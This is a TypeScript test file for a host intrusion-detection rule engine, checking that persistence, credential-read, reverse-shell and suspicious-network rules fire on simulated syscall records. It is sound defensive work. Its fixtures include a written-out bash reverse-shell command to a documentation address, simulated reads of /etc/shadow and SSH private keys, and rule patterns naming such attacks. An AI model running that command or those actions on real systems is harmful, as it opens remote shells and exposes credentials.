import { mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { classifyRecord } from '../../src/abi/dispatch.js';
import { AF_INET, AF_INET6 } from '../../src/abi/constants.js';
import { ProcessTable } from '../../src/replay/process-table.js';
import { AlertEngine } from '../../src/replay/rules/alerts.js';
import { builtinRules, DEFAULT_ALERT_PORTS } from '../../src/replay/rules/builtin.js';
import { compileRule } from '../../src/replay/rules/evaluate.js';
import { eventFacts } from '../../src/replay/rules/facts.js';
import { loadRuleFile } from '../../src/replay/rules/load.js';
import { connectRecord, execRecord, forkRecord, openRecord, type Identity } from '../support/records.js';
import { REPO_ROOT } from '../support/golden.js';
import { PATH_FLAG_DELETED, PATH_FLAG_FROM_FILE, PATH_FLAG_PSEUDO } from '../../src/abi/constants.js';
import { EVENT_FLAG_EXE_DELETED } from '../../src/abi/schema.js';

const dir = mkdtempSync(join(tmpdir(), 'rg-rules-'));
const writeRules = (name: string, text: string | Uint8Array) => {
  const p = join(dir, name);
  writeFileSync(p, text);
  return p;
};
const id: Identity = { ts: 1n, pid: 500, ppid: 1, uid: 1000, comm: 'sh' };
const O_WRONLY_CREAT_TRUNC = 0o1101;

const SOURCE = { host: 'h', clock: null, users: new Map<number, string>() };

/** The alerts on each record, by the rules over decoded facts and by the rules compiled over record bytes: the two must agree. */
function alertsFor(records: Uint8Array[], engine = new AlertEngine(builtinRules(DEFAULT_ALERT_PORTS, ['203.0.113.0/24']).map(compileRule))): string[] {
  const table = new ProcessTable();
  const out: string[] = [];
  for (const r of records) {
    const kind = classifyRecord(r, 0, r.length);
    const node = table.apply('h', kind, r, 0);
    const byFacts = engine.evaluate(eventFacts(kind, r, 0, node), null);
    const byRecord = engine.evaluateRecord(kind, r, 0, node, SOURCE);
    expect(byRecord).toEqual(byFacts);
    for (const a of byFacts) out.push(a.rule_id);
  }
  return out;
}

describe('built-in detections', () => {
  const writes = (path: string, result = 3) => openRecord(id, path, O_WRONLY_CREAT_TRUNC, result, 0o644);
  const reads = (path: string) => openRecord(id, path, 0, 3);

  it('flag persistence writes', () => {
    expect(alertsFor([writes('/etc/cron.d/job')])).toEqual(['persistence.cron']);
    expect(alertsFor([writes('/var/spool/cron/crontabs/root')])).toEqual(['persistence.cron']);
    expect(alertsFor([writes('/etc/crontab')])).toEqual(['persistence.cron']);
    expect(alertsFor([writes('/etc/systemd/system/evil.service')])).toEqual(['persistence.systemd']);
    expect(alertsFor([writes('/home/u/.config/systemd/user/x.service')])).toEqual(['persistence.systemd']);
    expect(alertsFor([writes('/root/.ssh/authorized_keys')])).toEqual(['persistence.ssh_authorized_keys']);
    // A relative name as passed: the kernel's path is what the rule sees.
    expect(alertsFor([openRecord(id, '/root/.ssh/authorized_keys', O_WRONLY_CREAT_TRUNC, 3, 0o644, -100, { pathArg: 'authorized_keys' })]))
      .toEqual(['persistence.ssh_authorized_keys']);
    expect(alertsFor([writes('/etc/ld.so.preload')])).toEqual(['persistence.ld_preload']);
    expect(alertsFor([writes('/home/u/.bashrc'), writes('/etc/profile.d/x.sh')])).toEqual(['persistence.shell_startup', 'persistence.shell_startup']);
  });

  it('match the kernel path, not the path as passed (schema 2)', () => {
    // The name as passed says cron, the kernel wrote elsewhere (a symlink, a race): no cron alert.
    expect(alertsFor([openRecord(id, '/tmp/x', O_WRONLY_CREAT_TRUNC, 3, 0o644, -100, { pathArg: '/etc/cron.d/job' })])).toEqual([]);
    // The name as passed hides cron, the kernel wrote into it.
    expect(alertsFor([openRecord(id, '/etc/cron.d/job', O_WRONLY_CREAT_TRUNC, 3, 0o644, -100, { pathArg: '/tmp/../etc//cron.d/./job' })])).toEqual(['persistence.cron']);
  });

  it('on a schema-1 capture, which has only the path as passed, match that', () => {
    const engine = new AlertEngine(builtinRules(DEFAULT_ALERT_PORTS, []).map(compileRule));
    const v1 = (r: Uint8Array) => {
      const facts = eventFacts(classifyRecord(r, 0, r.length), r, 0, null);
      facts.delete('path'); // schema 1 did not record the kernel's path
      facts.set('schema_version', 1);
      return engine.evaluate(facts, null).map((a) => a.rule_id);
    };
    expect(v1(openRecord(id, '', O_WRONLY_CREAT_TRUNC, 3, 0o644, -100, { pathArg: '/etc/cron.d/job' }))).toEqual(['persistence.cron']);
    expect(v1(openRecord(id, '', O_WRONLY_CREAT_TRUNC, 3, 0o644, -100, { pathArg: 'authorized_keys' }))).toEqual(['persistence.ssh_authorized_keys']);
    expect(v1(openRecord(id, '', 0, 3, 0, -100, { pathArg: '/etc/cron.d/job' }))).toEqual([]);
  });

  it('stay quiet on benign look-alikes: reads, failed writes, similar names elsewhere', () => {
    expect(alertsFor([
      reads('/etc/cron.d/job'), reads('/root/.ssh/authorized_keys'), reads('/etc/ld.so.preload'), reads('/home/u/.bashrc'),
      writes('/etc/cron.d/job', -13), writes('/tmp/cron.d-notes'), writes('/home/u/authorized_keys.bak'),
      writes('/etc/crontab.bak'), writes('/home/u/.bashrc.swp'), writes('/srv/etc/systemd/system/x'),
    ])).toEqual([]);
  });

  it('flag execution from /tmp, /dev/shm and deleted binaries, not look-alikes', () => {
    expect(alertsFor([execRecord(id, '/dev/shm/.x', ['.x'])])).toEqual(['execution.tmp']);
    expect(alertsFor([execRecord(id, '/tmp/payload', ['payload'])])).toEqual(['execution.tmp']);
    expect(alertsFor([execRecord({ ...id, flags: EVENT_FLAG_EXE_DELETED }, '/proc/self/fd/5', ['x'])])).toEqual(['execution.deleted']);
    expect(alertsFor([execRecord(id, '/usr/bin/tmpreaper', ['tmpreaper']), execRecord(id, '/tmpfs/bin/x', ['x']), execRecord(id, '/usr/bin/shm', ['shm'])])).toEqual([]);
  });

  it('judge a program by the kernel path it ran from, not by how it was named', () => {
    const ran = (filename: string, exePath: string, cwd = '/home/u') => alertsFor([execRecord(id, filename, ['x'], 1n, { exePath, cwd })]);
    for (const [filename, cwd] of [['//tmp/d/x', '/'], ['./x', '/tmp/d'], ['/proc/self/cwd/x', '/tmp/d'], ['/home/u/link', '/home/u']]) {
      expect(ran(filename, '/tmp/d/x', cwd), filename).toEqual(['execution.tmp']);
    }
    expect(ran('/run/lock/x', '/run/lock/x')).toEqual(['execution.tmp']);
    // Named like /tmp, but the kernel ran something else.
    expect(ran('/usr/local/bin/tool', '/usr/local/bin/tool', '/tmp')).toEqual([]);
    // A script: the kernel's program is its interpreter; the name it was run by, joined to the cwd, is in /tmp.
    expect(ran('./drop.sh', '/usr/bin/dash', '/tmp/d')).toEqual(['execution.tmp']);
    expect(ran('../../tmp/d/drop.sh', '/usr/bin/dash', '/home/u')).toEqual(['execution.tmp']);
    expect(ran('./ok.sh', '/usr/bin/dash', '/home/u')).toEqual([]);
    // A memfd, and a deleted file, by the kernel's flags and name.
    expect(alertsFor([execRecord(id, '/dev/fd/3', ['x'], 1n, { exePath: '/memfd:x (deleted)', exePathFlags: PATH_FLAG_FROM_FILE | PATH_FLAG_PSEUDO })]))
      .toEqual(['execution.deleted']);
    expect(alertsFor([execRecord(id, '/home/u/x', ['x'], 1n, { exePathFlags: PATH_FLAG_FROM_FILE | PATH_FLAG_DELETED })])).toEqual(['execution.deleted']);
  });

  it('flag connects to watched ports and networks only', () => {
    const c = (addr: number[], port: number) => connectRecord(id, AF_INET, addr, port, 0);
    expect(alertsFor([c([10, 0, 0, 5], 4444)])).toEqual(['network.watched_destination']);
    expect(alertsFor([c([203, 0, 113, 9], 443)])).toEqual(['network.watched_destination']);
    expect(alertsFor([c([10, 0, 0, 5], 443), c([203, 0, 114, 1], 80)])).toEqual([]);
  });
});

describe('rule files', () => {
  it('ships example rule files that load', () => {
    const files = readdirSync(`${REPO_ROOT}rules`).filter((f) => f.endsWith('.toml'));
    expect(files.length).toBeGreaterThan(0);
    for (const f of files) expect(loadRuleFile(`${REPO_ROOT}rules/${f}`).rules.length).toBeGreaterThan(0);
  });

  it('matches with every operator, lists and ancestry', () => {
    const path = writeRules('ops.toml', `
[[rules]]
id = "a"
title = "web shell"
severity = "critical"
event = "process_start"
match = { filename = { suffix = "/sh" }, "ancestors.exe" = { suffix = "/nginx" }, uid = { gte = 33, lt = 1000 }, argv = { contains = "-c" } }
[[rules]]
id = "b"
title = "not ssh"
event = "file_open"
match = { path = { prefix = ["/root/.ssh/", "/home/"], not_suffix = ".pub" }, comm = { not_one_of = ["ssh", "sshd"] } }
`);
    const engine = new AlertEngine(loadRuleFile(path).rules.map(compileRule));
    const web: Identity = { ts: 1n, pid: 10, ppid: 1, uid: 33, comm: 'nginx' };
    const recs = [
      execRecord(web, '/usr/sbin/nginx', ['nginx']),
      forkRecord(web, 11),
      execRecord({ ...web, pid: 11, ppid: 10, comm: 'sh' }, '/bin/sh', ['sh', '-c', 'id']),
      openRecord({ ...web, pid: 11, ppid: 10, comm: 'sh' }, '/root/.ssh/id_rsa', 0, 3),
      openRecord({ ...web, pid: 11, ppid: 10, comm: 'sh' }, '/root/.ssh/id_rsa.pub', 0, 3),
      openRecord({ ...web, pid: 11, ppid: 10, comm: 'ssh' }, '/root/.ssh/id_rsa', 0, 3),
    ];
    expect(alertsFor(recs, engine)).toEqual(['a', 'b']);
  });

  it('rules/host-baseline.toml (the 20 rules the bench runs) loads and each family of its rules fires', () => {
    const file = loadRuleFile(`${REPO_ROOT}rules/host-baseline.toml`);
    expect(file.rules).toHaveLength(20);
    const engine = new AlertEngine(file.rules.map(compileRule));
    const py: Identity = { ts: 1n, pid: 20, ppid: 1, uid: 1000, comm: 'python3' };
    const web: Identity = { ts: 1n, pid: 30, ppid: 1, uid: 33, comm: 'nginx' };
    const recs = [
      execRecord(py, '/usr/bin/python3', ['python3', '-c', 'import socket,subprocess']),
      openRecord(py, '/etc/shadow', 0, 3),
      openRecord(py, '/etc/shadow', 0, -13),
      openRecord(py, '/etc/sudoers.d/90-x', O_WRONLY_CREAT_TRUNC, 4),
      openRecord(py, '/var/log/auth.log', O_WRONLY_CREAT_TRUNC, 5),
      openRecord(py, '/proc/1/environ', 0, 6),
      connectRecord(py, AF_INET, [169, 254, 169, 254], 80, 0),
      connectRecord(py, AF_INET, [198, 51, 100, 7], 9050, -111),
      execRecord(web, '/usr/sbin/nginx', ['nginx']),
      forkRecord(web, 31),
      execRecord({ ...web, pid: 31, ppid: 30, comm: 'bash' }, '/usr/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1']),
    ];
    expect(alertsFor(recs, engine)).toEqual([
      'execution.interpreter_inline', 'credential.shadow_read', 'persistence.sudoers', 'defense_evasion.log_truncated', 'discovery.process_memory',
      'network.cloud_metadata', 'network.tor', 'execution.reverse_shell', 'execution.web_server_child',
    ]);
  });

  // Each operator and its not_* form, one rule each: every rule fires on exactly the events listed for it.
  it('tests every operator and its not_* form from a rule file', () => {
    const rule = (id: string, event: string, match: string) => `[[rules]]\nid = "${id}"\ntitle = "${id}"\nevent = "${event}"\nmatch = ${match}\n`;
    const path = writeRules('operators.toml', [
      rule('equals', 'file_open', '{ path = { equals = "/etc/shadow" } }'),
      rule('not_equals', 'file_open', '{ path = { prefix = "/etc/", not_equals = "/etc/shadow" } }'),
      rule('prefix', 'file_open', '{ path = { prefix = ["/tmp/", "/dev/shm/"] } }'),
      rule('not_prefix', 'file_open', '{ path = { not_prefix = ["/tmp/", "/etc/"] } }'),
      rule('suffix', 'file_open', '{ path = { suffix = ".key" } }'),
      rule('not_suffix', 'file_open', '{ path = { prefix = "/tmp/", not_suffix = ".key" } }'),
      rule('contains', 'file_open', '{ path = { contains = "/.ssh/" } }'),
      rule('not_contains', 'file_open', '{ path = { prefix = "/home/", not_contains = "/.ssh/" } }'),
      rule('one_of', 'file_open', '{ uid = { one_of = [0, 33] } }'),
      rule('not_one_of', 'file_open', '{ comm = { not_one_of = ["sh", "bash", "cat"] } }'),
      rule('cidr', 'net_connect', '{ addr = { cidr = ["10.0.0.0/8", "2001:db8::/32"] } }'),
      rule('not_cidr', 'net_connect', '{ addr = { not_cidr = "10.0.0.0/8" } }'),
      rule('gt', 'net_connect', '{ port = { gt = 1024 } }'),
      rule('gte', 'net_connect', '{ port = { gte = 8080 } }'),
      rule('lt', 'net_connect', '{ port = { lt = 80 } }'),
      rule('lte', 'net_connect', '{ port = { lte = 80 } }'),
    ].join(''));
    const engine = new AlertEngine(loadRuleFile(path).rules.map(compileRule));
    const user: Identity = { ...id, uid: 1000, comm: 'sh' };
    const open = (path: string, who: Identity = user) => openRecord(who, path, 0, 3);
    const connect = (addr: number[], port: number, family = AF_INET) => connectRecord(user, family, addr, port, 0);
    const cases: [Uint8Array, string[]][] = [
      [open('/etc/shadow'), ['equals']],
      [open('/etc/passwd'), ['not_equals']],
      [open('/tmp/x'), ['prefix', 'not_suffix']],
      [open('/tmp/server.key'), ['prefix', 'suffix']],
      [open('/home/u/notes'), ['not_prefix', 'not_contains']],
      [open('/home/u/.ssh/id_rsa'), ['not_prefix', 'contains']],
      [open('/tmp/y', { ...user, uid: 33 }), ['prefix', 'not_suffix', 'one_of']],
      [open('/tmp/z', { ...user, comm: 'python3' }), ['prefix', 'not_suffix', 'not_one_of']],
      [connect([10, 1, 2, 3], 80), ['cidr', 'lte']],
      [connect([192, 0, 2, 1], 79), ['not_cidr', 'lt', 'lte']],
      [connect([0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1], 8080, AF_INET6), ['cidr', 'not_cidr', 'gt', 'gte']],
      [connect([10, 9, 9, 9], 1025), ['cidr', 'gt']],
    ];
    for (const [record, expected] of cases) {
      const kind = classifyRecord(record, 0, record.length);
      const fired = engine.evaluate(eventFacts(kind, record, 0, null), null).map((a) => a.rule_id);
      expect(engine.evaluateRecord(kind, record, 0, null, SOURCE).map((a) => a.rule_id)).toEqual(fired);
      expect(fired.sort(), JSON.stringify(eventFacts(kind, record, 0, null).get('path') ?? eventFacts(kind, record, 0, null).get('addr'))).toEqual([...expected].sort());
    }
    // Every rule of the file fired somewhere, and stayed quiet somewhere.
    const ids = loadRuleFile(path).rules.map((r) => r.id);
    for (const ruleId of ids) {
      expect(cases.some(([, e]) => e.includes(ruleId)), `${ruleId} fires`).toBe(true);
      expect(cases.some(([, e]) => !e.includes(ruleId)), `${ruleId} is quiet`).toBe(true);
    }
  });

  it('refuses bad rule files with one clear line naming the rule', () => {
    const cases: [string, RegExp][] = [
      ['[[rules]]\nid = "x"\ntitle = "t"\nseverity = "urgent"\nmatch = { uid = { equals = 0 } }', /rules\[0\] \(x\): severity must be one of/],
      ['[[rules]]\nid = "x"\ntitle = "t"\nmatch = { uid = { bigger = 0 } }', /unknown operator bigger/],
      ['[[rules]]\nid = "x"\ntitle = "t"\nmatch = { addr = { cidr = "10.0.0.0/33" } }', /bad prefix length/],
      ['[[rules]]\nid = "x"\ntitle = "t"\nevent = "file_write"\nmatch = { uid = { equals = 0 } }', /unknown event "file_write"/],
      ['[[rules]]\nid = "x"\ntitle = "t"\nmatch = {}', /needs a match table or any alternatives/],
      ['[[rules]]\nid = "x"\ntitle = "t"\nmatch = { uid = { equals = 0 } }\n[[rules]]\nid = "x"\ntitle = "u"\nmatch = { uid = { equals = 1 } }', /duplicate id x/],
      ['rules = [', /not valid TOML/],
      ['[whatever]\na = 1', /unknown top-level key/],
      // A field no event has (a typo) would be missing on every event: a not_* test on it held for all of them.
      ['[[rules]]\nid = "x"\ntitle = "t"\nmatch = { exe_pth = { suffix = "/bash" } }', /rules\[0\] \(x\)\.match\.exe_pth: no such field for any event/],
      ['[[rules]]\nid = "x"\ntitle = "t"\nevent = "process_start"\nmatch = { "proces.exe" = { not_suffix = "/bash" } }', /match\.proces\.exe: no such field for process_start/],
      // A field of other events than the rule's.
      ['[[rules]]\nid = "x"\ntitle = "t"\nevent = "file_open"\nmatch = { port = { equals = 4444 } }', /match\.port: no such field for file_open/],
      ['[[rules]]\nid = "x"\ntitle = "t"\nevents = ["process_start"]\nany = [{ path = { prefix = "/tmp/" } }]', /any\[0\]\.path: no such field for process_start/],
      // An empty condition tests nothing (it held for every event).
      ['[[rules]]\nid = "x"\ntitle = "t"\nevent = "process_start"\nmatch = { exe_path = {} }', /match\.exe_path: an empty table tests nothing/],
      // Operands of the wrong type: refused by the loader, not an internal error later.
      ['[[rules]]\nid = "x"\ntitle = "t"\nmatch = { exe_path = { prefix = { a = 1 } } }', /match\.exe_path\.prefix: must be a string or a list of strings/],
      ['[[rules]]\nid = "x"\ntitle = "t"\nmatch = { exe_path = { suffix = [{ a = 1 }] } }', /match\.exe_path\.suffix: must be a string or a list of strings/],
      ['[[rules]]\nid = "x"\ntitle = "t"\nmatch = { argv = { not_contains = [] } }', /match\.argv\.not_contains: must be a string or a list of strings/],
      ['[[rules]]\nid = "x"\ntitle = "t"\nmatch = { "process.exe" = { suffix = { x = 1 } } }', /must be a string or a list of strings/],
      ['[[rules]]\nid = "x"\ntitle = "t"\nmatch = { uid = { equals = { a = 1 } } }', /match\.uid\.equals: must be a string, number or boolean/],
      ['[[rules]]\nid = "x"\ntitle = "t"\nmatch = { uid = { one_of = 0 } }', /match\.uid\.one_of: must be a list of strings and numbers/],
      ['[[rules]]\nid = "x"\ntitle = "t"\nmatch = { uid = { gt = "0" } }', /match\.uid\.gt: must be a number/],
      ['[[rules]]\nid = "x"\ntitle = "t"\nmatch = { addr = { cidr = 5 } }', /match\.addr\.cidr: must be a network/],
      // A network with an empty prefix length was /0 (every address); a second slash was dropped.
      ['[[rules]]\nid = "x"\ntitle = "t"\nmatch = { addr = { cidr = "203.0.113.7/" } }', /match\.addr\.cidr: not an IP network: "203\.0\.113\.7\/"/],
      ['[[rules]]\nid = "x"\ntitle = "t"\nmatch = { addr = { not_cidr = ["10.0.0.0/8/8"] } }', /not an IP network: "10\.0\.0\.0\/8\/8"/],
      ['[detections]\ncidrs = ["203.0.113.0/"]', /detections\.cidrs: not an IP network/],
      // `alert` was accepted as an event type and never offered anything: a rule on it never fired.
      ['[[rules]]\nid = "x"\ntitle = "t"\nevent = "alert"\nmatch = { uid = { equals = 0 } }', /unknown event "alert"/],
    ];
    cases.forEach(([text, message], i) => {
      expect(() => loadRuleFile(writeRules(`bad${i}.toml`, text))).toThrow(message);
    });
    // Not UTF-8 (Latin-1 é): its strings would have held U+FFFD.
    expect(() => loadRuleFile(writeRules('latin1.toml', Buffer.from('[[rules]]\nid = "x"\ntitle = "caf\u00e9"\nmatch = { uid = { equals = 0 } }', 'latin1')))).toThrow(/latin1\.toml: not UTF-8 text/);
    // Right fields, and facts replay learns from earlier events, load.
    expect(loadRuleFile(writeRules('good.toml', '[[rules]]\nid = "x"\ntitle = "t"\nevent = "net_connect"\nmatch = { dst_hostname = { suffix = ".example" }, addr = { cidr = ["10.0.0.0/8", "2001:db8::/32", "192.0.2.1"] } }')).rules).toHaveLength(1);
  });
});
